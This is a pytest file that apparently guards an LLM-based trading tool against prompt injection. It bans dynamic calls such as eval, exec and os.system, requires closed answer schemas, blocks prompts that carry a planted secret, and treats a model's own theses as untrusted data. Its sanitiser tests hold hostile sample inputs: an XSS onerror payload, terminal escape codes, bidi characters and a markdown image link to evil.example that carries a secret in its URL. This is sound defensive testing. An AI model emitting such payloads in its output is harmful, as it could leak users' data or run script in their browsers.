"""Rules against injection that are laws of the code itself: what a model says never becomes a name, a call or markup."""

from __future__ import annotations

import ast
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

import sources.llm
import sources.news
from sources.llm.answer import LONGEST_REASONING, Answer, decision_schema
from sources.llm.asking import Ask
from sources.llm.leaks import Guard
from sources.llm.params import LlmParams
from sources.llm.prompts.example import TERMS, example_sight
from sources.llm.prompts.files import shipped
from sources.llm.prompts.template import PromptLeak
from sources.llm.snapshot import Snapshot, Thesis, take
from sources.llm.wording import plain
from sources.news.settings import NewsSettings
from tests.sources.news.news_world import attacks

ROOMS = [Path(next(iter(room.__path__))) for room in (sources.llm, sources.news)]
FILES = sorted(file for room in ROOMS for file in room.rglob("*.py"))
# Of names that our own code lists: limits of a settings class, and the attributes of an SDK's errors.
OWN_NAMES = {"budget.py", "retention.py"}
SDKS = {"calling.py": {"import_module"}}  # which of two SDKs, by the dialect
_METHODS = {"import_module", "system", "popen", "run_module", "run_path", "literal_eval"}
_CALLS = {"eval", "exec", "compile", "__import__", "globals", "locals", "vars", "setattr", "delattr", "system", "popen", "open"}


def calls(tree: ast.AST) -> Iterator[tuple[str, ast.Call]]:
    """Every call by the last part of its name."""
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            if isinstance(node.func, ast.Name):
                yield node.func.id, node
            elif isinstance(node.func, ast.Attribute) and node.func.attr in _METHODS:
                yield node.func.attr, node


def ask(snapshot: Snapshot) -> Ask:
    """The question of a decision about it."""
    return shipped().render(snapshot, TERMS).ask(decision_schema((snapshot.symbol,)))


@pytest.mark.parametrize("file", FILES, ids=lambda file: f"{file.parent.name}/{file.name}")
def test_no_string_is_looked_up_run_or_imported(file: Path) -> None:
    for name, call in calls(ast.parse(file.read_text(encoding="utf-8"))):
        assert name not in _CALLS | (_METHODS - SDKS.get(file.name, set())), f"{file.name}:{call.lineno}: {name}"
        if name == "getattr" and file.name not in OWN_NAMES:
            assert isinstance(call.args[1], ast.Constant), f"{file.name}:{call.lineno}: getattr by a name that is made"


def test_actions_and_symbols_of_an_answer_are_closed_lists_made_in_code() -> None:
    schema = decision_schema(("BTC/USDT", "ETH/USDT")).body["properties"]
    assert schema["symbol"]["enum"] == ["BTC/USDT", "ETH/USDT"]
    assert schema["action"]["enum"] == ["buy", "sell", "hold"]


def test_the_question_of_a_decision_has_no_tools_and_fetches_nothing() -> None:
    question = ask(take(example_sight()))
    assert question.tools == ()
    assert "http" not in question.instructions + question.messages[0].text


@pytest.mark.parametrize("place", ["system", "user"])
def test_a_prompt_that_would_carry_a_secret_is_not_sent(place: str) -> None:
    rendered = shipped().render(take(example_sight()), TERMS)
    leaky = replace(rendered, **{place: getattr(rendered, place) + " hunter2-hunter2"})
    with pytest.raises(PromptLeak) as caught:
        leaky.check(Guard(["hunter2-hunter2"]))
    assert "hunter2" not in str(caught.value)


@pytest.mark.parametrize("case", attacks(), ids=lambda case: str(case["id"]))
def test_what_a_model_was_made_to_say_comes_back_to_it_as_data_in_one_line(case: dict[str, str]) -> None:
    """A thesis is the model's own text, and an attacker's if it was misled: it is as untrusted as a headline."""
    calm = ask(take(example_sight()))
    poisoned = ask(take(replace(example_sight(), theses={"example": Thesis(case["title"], case["title"])})))
    assert poisoned.instructions == calm.instructions
    head, _, last = poisoned.messages[0].text.rpartition("\n")
    assert head == calm.messages[0].text.rpartition("\n")[0]
    assert not set("<>&`\x1b\u202e\u200b") & set(last)


@pytest.mark.parametrize(
    "said",
    ["\x1b[2J\x1b]0;owned\x07text", "<img src=x onerror=alert(1)>text", "[text](https://evil.example)", "a\nevent=filled",
     "text\u202etxet", "\U000e0041text", "![a](https://evil.example/?q=secret)"],
    ids=ascii,
)  # fmt: skip
def test_a_model_s_words_are_made_plain_for_every_sink(said: str) -> None:
    words = plain(said, LONGEST_REASONING)
    assert words.isprintable()
    assert not set("<>\n\x1b") & set(words)
    assert "](" not in words
    assert "://" not in words


def test_an_answer_takes_nothing_besides_its_fields_and_no_number_that_is_none() -> None:
    assert Answer.model_config["extra"] == "forbid"
    assert Answer.model_config["allow_inf_nan"] is False
    assert Answer.model_config["strict"] is True


def test_headlines_alone_and_no_news_at_all_are_the_defaults() -> None:
    assert NewsSettings().summaries is False
    assert NewsSettings().enabled is False
    assert LlmParams().news == "off"
